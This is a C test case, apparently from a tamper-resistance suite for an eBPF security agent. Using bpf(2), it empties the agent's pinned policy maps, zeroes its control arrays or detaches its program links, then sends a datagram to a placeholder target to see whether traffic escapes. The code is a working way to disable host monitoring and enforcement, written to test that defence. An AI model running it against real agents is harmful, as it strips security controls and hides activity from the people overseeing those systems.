// title: the agent's programs and maps, attacked by bpf(2), then a datagram
// row: detaching programs, editing maps, unpinning, killing the agent
// caps: sys_admin bpf
// spoils: yes
// variants: empty_maps zero_arrays detach_links
#include "tamper.h"

static int pinned(const char *path)
{
	return bpf(BPF_OBJ_GET, (union bpf_attr){.pathname = (uintptr_t)path});
}

/* Deletes every entry that can be deleted: who is tagged, what is selected, what is forbidden. */
static void empty(const char *path)
{
	static char key[4096];
	int map = pinned(path);
	union bpf_attr first = {.map_fd = map, .next_key = (uintptr_t)key};
	union bpf_attr entry = {.map_fd = map, .key = (uintptr_t)key};
	for (int i = 0; i < 100000 && !bpf(BPF_MAP_GET_NEXT_KEY, first); i++)
		if (bpf(BPF_MAP_DELETE_ELEM, entry))
			break;
	close(map);
}

/* Overwrites the first entries of each array with zeros: switches, counts, policies. */
static void zero(const char *path)
{
	static char value[1 << 16];
	uint32_t key = 0;
	union bpf_attr entry = {.map_fd = pinned(path), .key = (uintptr_t)&key, .value = (uintptr_t)value};
	for (; key < 16; key++)
		if (bpf(BPF_MAP_UPDATE_ELEM, entry))
			break;
	close(entry.map_fd);
}

static void detach(const char *path)
{
	union bpf_attr attr = {0};
	attr.link_detach.link_fd = pinned(path);
	bpf(BPF_LINK_DETACH, attr);
	close(attr.link_detach.link_fd);
}

int main(void)
{
	each_pin(is("empty_maps") ? empty : is("zero_arrays") ? zero : detach);
	send_mark(connected(SOCK_DGRAM, "TARGET4"));
	return WENT_OUT;
}
